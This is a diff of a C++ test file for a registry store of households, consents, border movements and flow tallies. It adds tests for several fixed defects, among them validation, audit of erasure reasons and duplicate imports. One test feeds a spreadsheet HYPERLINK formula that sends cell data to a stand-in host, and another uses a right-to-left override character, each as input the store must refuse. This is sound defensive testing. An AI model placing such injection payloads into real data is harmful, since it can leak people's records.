@@ -4,6 +4,7 @@
 #include <sqlite3.h>
 
 #include <fstream>
+#include <set>
 #include <sstream>
 #include <thread>
 
@@ -143,7 +144,7 @@ TEST_F(StoreTest, ErasedPersonIsUnreadableAndTheAuditChainStaysValid) {
   auto created = store_->CreateHousehold(FamilyInBothScripts(), kActor);
   ASSERT_TRUE(created);
   const std::string id = created->members[0].id;
-  ASSERT_TRUE(store_->ErasePerson(id, kActor));
+  ASSERT_TRUE(store_->ErasePerson(id, "the person asked for it", kActor));
   auto read = store_->GetPerson(id, kActor);
   ASSERT_FALSE(read);
   EXPECT_EQ(read.error().code, Error::Code::kNotFound);
@@ -286,6 +287,220 @@ TEST_F(StoreTest, RegisteredMovementsBecomeTalliesWithoutDecrypting) {
   EXPECT_EQ(t.female, 1);
   EXPECT_EQ(t.age_18_59, 1);  // the head, born about 1979; the wife's age is unknown
   EXPECT_EQ(t.destination_province, "Nangarhar");
+}
+
+// Defect A: each search of a new shape (number of words, keys per word)
+// prepared and kept a new statement; 3,000 searches added 360 MB.
+TEST_F(StoreTest, ManyDistinctSearchesKeepTheStatementCacheBounded) {
+  store_.reset();
+  auto db = OpenSqlite(dir_.File("site.db"));
+  ASSERT_TRUE(db);
+  Database* raw = db->get();
+  auto opened = Store::Open(std::move(*db), KeyRing::FromMasterKey(FixedKey(7)));
+  ASSERT_TRUE(opened) << opened.error().message;
+  store_ = std::move(*opened);
+  ASSERT_TRUE(store_->CreateHousehold(FamilyInBothScripts(), kActor));
+  // Words with one search key, with three ("Abd..."), and hyphenated
+  // compounds with more: each mix of them was a statement of its own.
+  const char* words[] = {"Gul",  "Abdullah",   "Gul-Bibi",     "Abdul-Rahman-Khan",
+                         "Nabi", "Abdulwahid", "Din-Mohammad", "Zarghuna"};
+  std::set<std::string> queries;
+  for (int i = 0; queries.size() < 300; ++i) {
+    std::string query;
+    const int count = 1 + i % 6;
+    for (int w = 0, rest = i; w < count; ++w, rest /= 8) {
+      query += (w ? " " : "") + std::string(words[(rest + w) % 8]);
+    }
+    if (!queries.insert(query).second) continue;
+    auto page = store_->SearchPersons(query, 1 + i % 3, 5 + i % 20, kActor);
+    ASSERT_TRUE(page) << query << ": " << page.error().message;
+  }
+  EXPECT_LE(raw->PreparedStatementCount(), kMaxPreparedStatements)
+      << "after " << queries.size() << " searches";
+  EXPECT_EQ(store_->SearchPersons("Zarghuna", 1, 20, kActor)->items.size(), 1u);
+}
+
+// Defect C: page 999999999 overflowed int (undefined behaviour) and page
+// 21474838 wrapped round to page 1.
+TEST_F(StoreTest, SearchPageOutOfRangeIsRefusedNamingPage) {
+  ASSERT_TRUE(store_->CreateHousehold(FamilyInBothScripts(), kActor));
+  for (int page : {999999999, 21474838, kMaxSearchPage + 1, 0, -5}) {
+    SCOPED_TRACE(page);
+    auto r = store_->SearchPersons("Zarghuna", page, 100, kActor);
+    ASSERT_FALSE(r);
+    EXPECT_EQ(r.error().code, Error::Code::kInvalidInput);
+    EXPECT_EQ(r.error().field, "page");
+  }
+  auto last = store_->SearchPersons("Zarghuna", kMaxSearchPage, 100, kActor);
+  ASSERT_TRUE(last) << last.error().message;
+  EXPECT_TRUE(last->items.empty());
+  EXPECT_EQ(store_->SearchPersons("Zarghuna", 1, 100, kActor)->items.size(), 1u);
+}
+
+// Defect D: a member added by an update with consents was stored with no
+// record of who took the consent; so was a changed consent.
+TEST_F(StoreTest, WhoRecordedAConsentIsKeptForNewAndChangedConsents) {
+  Household h = FamilyInBothScripts();
+  h.members[0].consent_recorded_by.clear();
+  auto created = store_->CreateHousehold(h, Actor{"registrar-1", ""});
+  ASSERT_TRUE(created) << created.error().message;
+  EXPECT_EQ(created->members[0].consent_recorded_by, "registrar-1");
+  EXPECT_EQ(created->members[1].consent_recorded_by, "") << "no consent, no recorder";
+
+  Household edit = *created;
+  Person child;
+  child.given_name = "Nazo";
+  child.relationship = Relationship::kDaughter;
+  child.consents = {ConsentPurpose::kRegistration};
+  edit.members.push_back(child);
+  edit.members[1].consents = {ConsentPurpose::kAssistance};  // the wife consents now
+  auto updated = store_->UpdateHousehold(edit, 1, Actor{"registrar-2", ""});
+  ASSERT_TRUE(updated) << updated.error().message;
+  ASSERT_EQ(updated->members.size(), 3u);
+  EXPECT_EQ(updated->members[0].consent_recorded_by, "registrar-1") << "unchanged consent";
+  EXPECT_EQ(updated->members[1].consent_recorded_by, "registrar-2");
+  EXPECT_EQ(updated->members[2].consent_recorded_by, "registrar-2");
+
+  // A changed consent carried over with its old recorder is recorded anew.
+  Household again = *updated;
+  again.members[0].consents = {ConsentPurpose::kRegistration};
+  auto changed = store_->UpdateHousehold(again, 2, Actor{"registrar-3", ""});
+  ASSERT_TRUE(changed) << changed.error().message;
+  EXPECT_EQ(changed->members[0].consent_recorded_by, "registrar-3");
+  EXPECT_EQ(changed->members[1].consent_recorded_by, "registrar-2");
+}
+
+// Defect E: person_ids [P, P] failed with SQLite's constraint text, and a
+// person of another household was accepted under a household_id.
+TEST_F(StoreTest, MovementPeopleAreCheckedBeforeAnythingIsWritten) {
+  auto first = store_->CreateHousehold(FamilyInBothScripts(), kActor);
+  auto second = store_->CreateHousehold(FamilyInBothScripts(), kActor);
+  ASSERT_TRUE(first && second);
+  Movement m;
+  m.date = Date{2025, 4, 2};
+  m.crossing_point = "Torkham";
+  m.person_ids = {first->members[0].id, first->members[0].id};
+  auto twice = store_->CreateMovement(m, kActor);
+  ASSERT_FALSE(twice);
+  EXPECT_EQ(twice.error().code, Error::Code::kInvalidInput);
+  EXPECT_EQ(twice.error().field, "person_ids[1]");
+  EXPECT_EQ(twice.error().message.find("constraint"), std::string::npos) << twice.error().message;
+
+  m.household_id = first->id;
+  m.person_ids = {first->members[0].id, second->members[1].id};
+  auto stranger = store_->CreateMovement(m, kActor);
+  ASSERT_FALSE(stranger);
+  EXPECT_EQ(stranger.error().code, Error::Code::kInvalidInput);
+  EXPECT_EQ(stranger.error().field, "person_ids[1]");
+
+  ASSERT_TRUE(
+      store_->ErasePerson(first->members[1].id, "the person asked to be forgotten", kActor));
+  m.person_ids = {first->members[1].id};
+  EXPECT_EQ(store_->CreateMovement(m, kActor).error().field, "person_ids[0]")
+      << "an erased person cannot cross again";
+  EXPECT_EQ(store_->ListMovements({}, kActor)->size(), 0u) << "nothing was written";
+  m.person_ids = {first->members[0].id};
+  EXPECT_TRUE(store_->CreateMovement(m, kActor));
+}
+
+// Defect G: a household's destination (what registered flows publish) must
+// be a province of Afghanistan the gazetteer knows; spellings are stored
+// canonical.
+TEST_F(StoreTest, HouseholdDestinationMustBeAKnownAfghanProvince) {
+  Household h = FamilyInBothScripts();
+  h.destination_province = "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")";
+  auto refused = store_->CreateHousehold(h, kActor);
+  ASSERT_FALSE(refused);
+  EXPECT_EQ(refused.error().field, "destination_province");
+  h.destination_province = "nangrahar";
+  auto created = store_->CreateHousehold(h, kActor);
+  ASSERT_TRUE(created) << created.error().message;
+  EXPECT_EQ(created->destination_province, "Nangarhar");
+  Household edit = *created;
+  edit.destination_province = "Punjab";
+  EXPECT_EQ(store_->UpdateHousehold(edit, 1, kActor).error().field, "destination_province");
+  edit.destination_province = "";
+  EXPECT_TRUE(store_->UpdateHousehold(edit, 1, kActor)) << "the destination may be unknown";
+}
+
+// Defect B: erasure records why, in the audit chain, next to the person's id.
+TEST_F(StoreTest, ErasureNeedsAReasonAndAuditsIt) {
+  auto created = store_->CreateHousehold(FamilyInBothScripts(), kActor);
+  ASSERT_TRUE(created);
+  const std::string id = created->members[1].id;
+  for (const char* reason : {"", "   ", "why", "bad\xE2\x80\xAEreason here"}) {
+    SCOPED_TRACE(reason);
+    auto r = store_->ErasePerson(id, reason, kActor);
+    ASSERT_FALSE(r);
+    EXPECT_EQ(r.error().field, "reason");
+  }
+  ASSERT_TRUE(store_->GetPerson(id, kActor)) << "a refused erasure changes nothing";
+  ASSERT_TRUE(store_->ErasePerson(id, "the person asked for it on 2025-04-02", kActor));
+  auto head = store_->AuditHead();
+  ASSERT_TRUE(head);
+  EXPECT_EQ(head->action, "person.erase");
+  EXPECT_EQ(head->object_id, id);
+  EXPECT_EQ(head->detail, "the person asked for it on 2025-04-02");
+  EXPECT_TRUE(store_->VerifyAudit());
+  EXPECT_EQ(store_->ErasePerson(id, "the person asked for it", kActor).error().code,
+            Error::Code::kNotFound);
+  // The reason is part of the chain: editing it breaks verification.
+  sqlite3* db = nullptr;
+  ASSERT_EQ(sqlite3_open(dir_.File("site.db").c_str(), &db), SQLITE_OK);
+  ASSERT_EQ(
+      sqlite3_exec(db, "UPDATE audit_log SET detail = 'routine' WHERE action = 'person.erase'",
+                   nullptr, nullptr, nullptr),
+      SQLITE_OK);
+  sqlite3_close(db);
+  EXPECT_FALSE(store_->VerifyAudit());
+}
+
+// Defect I: tallies dated after today are refused by the store too.
+TEST_F(StoreTest, TalliesInTheFutureAreRefused) {
+  FlowTally t;
+  t.date = Date::FromDaysSinceEpoch(Date::Today().DaysSinceEpoch() + 5);
+  t.crossing_point = "Torkham";
+  t.households = 1;
+  t.individuals = 1;
+  t.female = 1;
+  t.age_18_59 = 1;
+  auto r = store_->AddTallies({t}, kActor);
+  ASSERT_FALSE(r);
+  EXPECT_EQ(r.error().field, "tallies[0].date");
+}
+
+// Defect J: importing the same file twice counted everyone twice.
+TEST_F(StoreTest, TheSameImportFileTwiceIsRefusedUnlessAgain) {
+  FlowTally t;
+  t.date = Date{2025, 4, 1};
+  t.crossing_point = "Torkham";
+  t.households = 1;
+  t.individuals = 1;
+  t.female = 1;
+  t.age_18_59 = 1;
+  t.destination_province = "Kabul";
+  const std::string content = "the bytes of tallies.csv";
+  ASSERT_TRUE(store_->AddTallies({t}, kActor, ImportFile{content}));
+  auto twice = store_->AddTallies({t}, kActor, ImportFile{content});
+  ASSERT_FALSE(twice);
+  EXPECT_EQ(twice.error().code, Error::Code::kConflict);
+  EXPECT_EQ(twice.error().field, "file");
+  EXPECT_NE(twice.error().message.find("already imported"), std::string::npos);
+  EXPECT_EQ(store_->ListTallies(Date{2025, 4, 1}, Date{2025, 4, 1})->size(), 1u);
+  ASSERT_TRUE(store_->AddTallies({t}, kActor, ImportFile{content, /*again=*/true}));
+  EXPECT_EQ(store_->ListTallies(Date{2025, 4, 1}, Date{2025, 4, 1})->size(), 2u);
+  ASSERT_TRUE(store_->AddTallies({t}, kActor, ImportFile{content + "\n"}));
+
+  std::vector<Household> households{FamilyInBothScripts()};
+  ASSERT_TRUE(store_->ImportHouseholds(&households, kActor, {}, ImportFile{"persons.csv bytes"}));
+  households = {FamilyInBothScripts()};
+  auto persons_twice =
+      store_->ImportHouseholds(&households, kActor, {}, ImportFile{"persons.csv bytes"});
+  ASSERT_FALSE(persons_twice);
+  EXPECT_EQ(persons_twice.error().field, "file");
+  EXPECT_EQ(*store_->CountPersons(), 2);
+  // The raw bytes are not kept, only a keyed digest.
+  EXPECT_EQ(RawFiles().find("persons.csv bytes"), std::string::npos);
 }
 
 }  // namespace
